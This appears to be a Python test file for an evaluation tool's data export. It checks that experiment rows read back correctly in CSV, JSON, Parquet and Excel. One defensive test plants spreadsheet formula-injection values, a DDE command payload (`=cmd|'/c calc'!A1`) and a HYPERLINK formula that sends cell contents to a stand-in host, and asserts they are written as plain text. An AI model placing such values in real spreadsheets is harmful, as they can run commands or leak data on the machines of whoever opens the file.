"""Exports of every level in every format read back to the same rows."""

from __future__ import annotations

import json

import pandas as pd
import pytest
from sqlmodel import Session

from evaluation.errors import EvalError
from evaluation.export import LEVELS, export_experiment
from evaluation.review.store import CRITERIA, record_pair_rating, save_pairs
from evaluation.storage.models import Generation
from evaluation.storage.repository import generations_frame
from tests.support.review_db import add_stages, build_review_db

READERS = {
    "csv": pd.read_csv,
    "json": lambda path: pd.read_json(path, orient="table"),
    "parquet": pd.read_parquet,
}


@pytest.fixture(scope="module")
def db(tmp_path_factory):
    db = build_review_db(f"sqlite:///{tmp_path_factory.mktemp('export') / 'r.db'}", n_cases=5)
    with Session(db.engine) as session:
        gens = generations_frame(session, db.experiment_id)
        first = gens[gens.case_id == "c00"].id.tolist()
        # a control character Excel would refuse, in a model output
        session.get(Generation, first[0]).output = "City 0\x07 with a bell"
        (pair,) = save_pairs(session, db.experiment_id, [("toy-qa/c00", first[0], first[1])])
        stars = {"A": dict.fromkeys(CRITERIA, 4), "B": dict.fromkeys(CRITERIA, 2)}
        record_pair_rating(session, pair.id, rater="ann", stars=stars, preference="A")
        stars["B"]["speed"] = 5
        record_pair_rating(session, pair.id, rater="ann", stars=stars, preference="A")
        add_stages(session, db)
        session.commit()
    return db


def _export(db, tmp_path, fmt, levels=None):
    with Session(db.engine) as session:
        return export_experiment(session, db.experiment, out_dir=tmp_path, fmt=fmt, levels=levels)


@pytest.mark.parametrize("fmt", ["csv", "json", "parquet"])
def test_every_level_is_written_and_reads_back(db, tmp_path, fmt):
    paths = _export(db, tmp_path, fmt)
    assert [p.name for p in paths] == [f"toy-review-{level}.{fmt}" for level in LEVELS]
    frames = {level: READERS[fmt](p) for level, p in zip(LEVELS, paths, strict=True)}
    assert len(frames["generations"]) == 3 * 5
    assert len(frames["scores"]) == 3 * 5 * 2
    assert set(frames["generations"]["config_label"]) == {c.label for c in db.configs}
    ratings = frames["ratings"]
    assert len(ratings) == 9 + 1  # the superseded speed rating is exported and marked
    assert ratings["current"].astype(bool).sum() == 9
    comparisons = frames["comparisons"]
    assert len(comparisons) == 2 * 3  # two metrics, three pairs of configs
    assert comparisons["source"].str.startswith("computed").all()
    assert {"config_label_a", "config_label_b", "p_adjusted"} <= set(comparisons.columns)
    assert frames["judgements"].empty
    stages = frames["stages"]  # a pipeline's calls, with their transcript
    assert stages["stage"].tolist() == ["map", "reduce", "embed"]
    assert stages["wait_s"].tolist()[:2] == [0.25, 0.0]
    assert stages["output"].tolist()[:2] == ["a summary", "Paris"]
    assert stages["case_id"].tolist() == ["c00"] * 3
    assert stages["generation_id"].notna().all()
    prompt = stages["prompt"][1]
    assert (json.loads(prompt) if isinstance(prompt, str) else prompt) == [
        ["system", "Answer."],
        ["user", "a summary"],
    ]


def test_stages_are_exported_by_default_only_where_a_pipeline_stored_them(tmp_path):
    """The newcomer's F12: the per-call stages were only in the view and the database.
    And their F11: a sweep of single calls stores a `generate` stage per generation (its
    own call), and the default export wrote them, one row per generation, though
    export-schema.md said the level is for pipelines: now only `--level stages` does."""
    from evaluation.storage.models import CaseRun, StageRow

    plain = build_review_db(f"sqlite:///{tmp_path / 'p.db'}", n_cases=2)
    with Session(plain.engine) as session:
        key = {"experiment_id": plain.experiment_id, "config_hash": plain.configs[0].hash}
        key |= {"case_uid": f"{plain.suite.name}/{plain.suite.cases[0].id}"}
        session.add(CaseRun(**key, pipeline="single", wall_s=0.5, calls=1))
        session.add(StageRow(**key, position=0, stage="generate", model="m:1b", wait_s=0.1))
        session.commit()
        paths = export_experiment(session, plain.experiment, out_dir=tmp_path, fmt="csv")
        assert not [p for p in paths if "stages" in p.name]  # a sweep of single calls
        (asked,) = export_experiment(
            session, plain.experiment, out_dir=tmp_path, fmt="csv", levels=["stages"]
        )
    frame = pd.read_csv(asked)
    assert frame["stage"].tolist() == ["generate"] and frame["wait_s"].tolist() == [0.1]
    assert {"stage", "prompt", "output", "retrieved"} <= set(frame.columns)


def test_excel_writes_one_workbook_with_a_sheet_per_level(db, tmp_path):
    (path,) = _export(db, tmp_path, "excel", levels=["generations", "ratings"])
    assert path.name == "toy-review.xlsx"
    sheets = pd.read_excel(path, sheet_name=None)
    assert list(sheets) == ["generations", "ratings"]
    outputs = sheets["generations"]["output"].tolist()
    assert "City 0 with a bell" in outputs  # the control character is dropped
    assert len(sheets["ratings"]) == 10


def test_excel_writes_text_that_looks_like_a_formula_as_text(tmp_path):
    """The newcomer's N3: openpyxl stores a str starting with "=" as a formula, so a
    rater's name or a model's output like `=cmd|'/c calc'!A1` ran when the workbook
    was opened. Every cell of an export is data: text stays text, as stored."""
    from openpyxl import load_workbook

    db = build_review_db(f"sqlite:///{tmp_path / 'f.db'}", n_cases=2)
    output = '=HYPERLINK("http://x/?"&A1,"click")'
    rater = "=cmd|'/c calc'!A1"
    with Session(db.engine) as session:
        gens = generations_frame(session, db.experiment_id)
        first = gens[gens.case_id == "c00"].id.tolist()
        session.get(Generation, first[0]).output = output
        (pair,) = save_pairs(session, db.experiment_id, [("toy-qa/c00", first[0], first[1])])
        stars = {"A": dict.fromkeys(CRITERIA, 4), "B": dict.fromkeys(CRITERIA, 2)}
        record_pair_rating(session, pair.id, rater=rater, stars=stars, preference="A")
        session.commit()
    (path,) = _export(db, tmp_path / "out", "excel", levels=["generations", "ratings"])
    workbook = load_workbook(path)
    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells}
    assert output in texts and rater in texts


def test_unknown_formats_and_levels_are_refused(db, tmp_path):
    with pytest.raises(EvalError, match="format"):
        _export(db, tmp_path, "xml")
    with pytest.raises(EvalError, match="level"):
        _export(db, tmp_path, "csv", levels=["everything"])
    assert not list(tmp_path.iterdir())


def test_exported_comparisons_carry_labels_and_models_stored_or_computed(tmp_path):
    from evaluation.compare._comparison import compare_experiment
    from evaluation.compare._stored import save_comparison

    db = build_review_db(f"sqlite:///{tmp_path / 'c.db'}", n_cases=5)
    labels = {c.label for c in db.configs}
    models = {c.model for c in db.configs}
    for source in ("computed", "stored"):
        with Session(db.engine) as session:
            if source == "stored":  # rows name configs by label, as `evalflow compare` stores
                outcome = compare_experiment(session, db.experiment)
                save_comparison(session, outcome)
                session.commit()
        (path,) = _export(db, tmp_path / source, "csv", levels=["comparisons"])
        frame = pd.read_csv(path)
        assert frame["source"].str.startswith(source).all()
        for side in ("a", "b"):
            assert frame[f"config_label_{side}"].notna().all()
            assert set(frame[f"config_label_{side}"]) <= labels
            assert set(frame[f"model_{side}"]) <= models


def test_a_stale_stored_comparison_is_computed_again_not_exported_as_stored(tmp_path, capsys):
    """Comparisons stored by older code kept their p = 0 (a zero standard error) in the
    export until `compare` recomputed them: export checks the stored digest as `compare`
    does, computes a stale one again, stores it, and says so in ``source``."""
    from sqlmodel import select

    from evaluation.compare._comparison import compare_experiment
    from evaluation.compare._stored import save_comparison
    from evaluation.export import RECOMPUTED
    from evaluation.storage.models import ComparisonRow, ComparisonRun
    from flows.cli import main

    url = f"sqlite:///{tmp_path / 'c.db'}"
    db = build_review_db(url, n_cases=5)
    with Session(db.engine) as session:
        save_comparison(session, outcome := compare_experiment(session, db.experiment))
        for row in session.exec(select(ComparisonRow)).all():
            row.p_value = row.p_adjusted = 0.0  # as the older code stored them
        session.get(ComparisonRun, db.experiment).inputs_digest = "older code"
        session.commit()
    right = [r["p_value"] for r in outcome.rows]
    assert any(p > 0 for p in right)

    def export() -> pd.DataFrame:
        command = ["--database", url, "export", db.experiment, "--level", "comparisons"]
        assert main([*command, "--out", str(tmp_path)]) == 0
        return pd.read_csv(capsys.readouterr().out.strip())

    first = export()
    assert (first["source"] == RECOMPUTED).all()
    assert first["p_value"].tolist() == pytest.approx(right)
    second = export()  # stored again by the first: read back as it is
    assert (second["source"] == "stored").all()
    assert second["p_value"].tolist() == pytest.approx(right)


def test_export_says_which_files_came_out_empty_and_why(tmp_path, capsys):
    """The newcomer's `export demo-simulated --level ratings --out o2` wrote a header-only
    file and printed its path alone: it is still written (a script finds every file it
    asked for, with its columns), and the line says "0 rows" and why."""
    from flows.cli import main

    url = f"sqlite:///{tmp_path / 'e.db'}"
    db = build_review_db(url, n_cases=3)
    out = tmp_path / "out"
    command = ["--database", url, "export", db.experiment, "--out", str(out)]
    assert main([*command, "--level", "ratings", "--level", "scores"]) == 0
    lines = capsys.readouterr().out.splitlines()
    ratings = out / f"{db.experiment}-ratings.csv"
    assert lines == [f"{ratings}: 0 rows (no ratings in this experiment)",
                     str(out / f"{db.experiment}-scores.csv")]  # fmt: skip
    assert pd.read_csv(ratings).empty and "rating_id" in pd.read_csv(ratings).columns
    assert main([*command, "--level", "ratings", "--format", "excel"]) == 0
    assert capsys.readouterr().out.splitlines()[1:] == [
        "  sheet ratings: 0 rows (no ratings in this experiment)"
    ]
